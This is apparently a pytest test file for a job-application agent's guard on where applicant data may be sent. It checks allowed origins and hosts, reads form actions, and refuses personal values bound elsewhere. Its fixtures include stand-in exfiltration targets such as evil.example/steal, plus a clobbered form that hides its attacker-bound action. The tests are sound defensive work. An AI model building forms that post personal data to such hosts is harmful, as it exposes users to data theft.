"""Where applicant data may go (browser/dataguard.py): the one definition of an allowed destination, checked pure, and
the in-page reading of where a field or a pressed control would send it (origin, form action, formaction, the form's
values), checked on small documents, including forms that try to hide their address."""

from __future__ import annotations

import pytest

from pytest_jobagent.browser.dataguard import DataGuard, DataRefused, Destinations, refusal
from pytest_jobagent.browser.hosts import HostRules
from pytest_jobagent.browser.inpage import call_on
from pytest_jobagent.redact import Placeholders

FOLDER = Destinations.of_url("http://127.0.0.1:5000/jobs/1")
URL_SITE = Destinations(rules=HostRules("careers.example.com", ("*.greenhouse.io",)))


@pytest.mark.parametrize("url, folder, url_site", [
    ("http://127.0.0.1:5000/__submit/apply", True, False),
    ("http://127.0.0.1:5001/__submit/apply", False, False),     # another server of this machine: another origin
    ("http://localhost:5000/apply", False, False),              # another host name
    ("http://evil.example/steal", False, False),
    ("https://careers.example.com/apply", False, True),
    ("http://careers.example.com:8443/apply", False, True),     # a URL site is judged by host, as traffic.py does
    ("https://boards.greenhouse.io/acme/jobs/1", False, True),   # allow_hosts
    ("https://greenhouse.io.evil.example/x", False, False),
    ("javascript:void(0)", True, True),                          # leaves nothing
    ("blob:http://evil.example/1", True, True),
])
def test_one_definition_of_an_allowed_destination(url, folder, url_site):
    assert FOLDER.allows(url) is folder and URL_SITE.allows(url) is url_site
    for destinations in (FOLDER, URL_SITE):  # the guard's route sees every URL refused
        assert destinations.allows(url) or destinations.outside().search(url)
    assert FOLDER.outside().search("http://127.0.0.1:5000/x") is None  # and not the site's own


def test_an_opaque_origin_is_never_allowed():
    assert not FOLDER.allows_origin("null") and not URL_SITE.allows_origin("null")
    assert FOLDER.allows_origin("http://127.0.0.1:5000") and URL_SITE.allows_origin("https://x.greenhouse.io")


def test_a_refusal_names_the_host_and_what_to_do():
    assert refusal("form", URL_SITE.name("https://evil.example:8080/steal"), URL_SITE) == (
        "the form posts to evil.example, which this scenario does not allow (add it to allow_hosts if it is the "
        "real ATS)")
    assert refusal("frame", FOLDER.name("http://127.0.0.1:5001/f.html"), FOLDER) == (
        "the field is in a frame from 127.0.0.1:5001, which this scenario does not allow (a folder site's applicant "
        "data goes only to its own server, http://127.0.0.1:5000)")


def test_the_site_a_run_opened_decides():
    class Server:  # what a folder site's SiteServer offers
        base_url = "http://127.0.0.1:5000"

    class Traffic:
        rules = HostRules("careers.example.com", ("cdn.example.com",))

    class UrlSite:  # what traffic.UrlSite offers
        traffic = Traffic()

    assert Destinations.of_site(Server()) == FOLDER
    assert Destinations.of_site(UrlSite()).rules == Traffic.rules


def test_personal_values_are_the_applicant_data_as_words():
    guard = DataGuard(page=None, destinations=FOLDER, values=Placeholders.of({"email": "ada@example.com",
                                                                              "first_name": "Ada", "agree": "Yes"}))
    assert guard.personal("ada@example.com") and guard.personal("Ada Lovelace")
    assert guard.personal("email=ada%40example.com")  # as a form post encodes it
    assert not guard.personal("Adaptive") and not guard.personal("Yes") and not guard.personal("{{email}}")
    guard.learn({"phone": "+49 30 1234567"})
    assert guard.personal("+49 30 1234567") and guard.personal("Ada")


FORMS = """
<form id="plain" action="/__submit/apply" method="post">
  <input id="name" name="name" value="Ada Lovelace"><input type="checkbox" name="spam" value="spam-me">
  <button id="send">Send</button><button id="other" type="button">Preview</button>
</form>
<form id="clobbered" action="http://evil.example/steal">
  <input id="c-email" name="action" value="/__submit/ok"><input name="elements" value="x">
  <input type="submit" id="c-send" formaction="http://evil.example/other">
</form>
<input id="outside" form="plain" name="email" value="ada@example.com">
<input id="loose">
<div id="host"></div>
<script>
  const root = document.getElementById("host").attachShadow({mode: "open"});
  root.innerHTML = '<input id="deep">';
  document.getElementById("plain").appendChild(document.getElementById("host"));
</script>
"""


@pytest.fixture
def forms(mpage, pages):
    mpage.goto(pages.url("/apply.html"))  # an http origin to read
    mpage.set_content(FORMS)
    return mpage


def read(page, selector, press=None):
    return call_on(page.locator(selector), "destination", {"press": press} if press else {})


def test_the_reading_of_a_field_and_a_pressed_control(forms):
    origin = forms.evaluate("location.origin")
    field = read(forms, "#name")
    assert field == {"origin": origin, "url": forms.url, "submits": False,
                     "form": {"action": f"{origin}/__submit/apply"}}
    pressed = read(forms, "#send", "click")
    assert pressed["submits"] and pressed["form"]["values"] == ["Ada Lovelace", "ada@example.com"]  # unchecked out
    assert not read(forms, "#other", "click")["submits"]  # a type=button submits nothing
    assert read(forms, "#name", "enter")["submits"]  # Enter in a field submits its form
    assert read(forms, "#outside")["form"]["action"] == f"{origin}/__submit/apply"  # form= attribute
    assert read(forms, "#loose")["form"] is None
    assert read(forms, "#host >> #deep")["form"]["action"] == f"{origin}/__submit/apply"  # across a shadow root


def test_a_field_named_action_does_not_hide_where_the_form_posts(forms):
    assert read(forms, "#c-email")["form"]["action"] == "http://evil.example/steal"
    assert read(forms, "#c-send", "click")["form"]["action"] == "http://evil.example/other"  # formaction wins


def test_the_guard_refuses_a_personal_value_only_where_it_would_go_elsewhere(forms):
    guard = DataGuard(forms, Destinations.of_url(forms.url), Placeholders.of({"email": "ada@example.com"}))
    guard.before_fill(forms.locator("#name"), "ada@example.com")  # its form posts to the page's own origin
    guard.before_fill(forms.locator("#c-email"), "kitchen")  # not the applicant's: anywhere
    with pytest.raises(DataRefused) as refused:
        guard.before_fill(forms.locator("#c-email"), "ada@example.com")
    assert (refused.value.host, refused.value.kind) == ("evil.example", "form")
    assert str(refused.value).endswith("; nothing was typed or sent there")
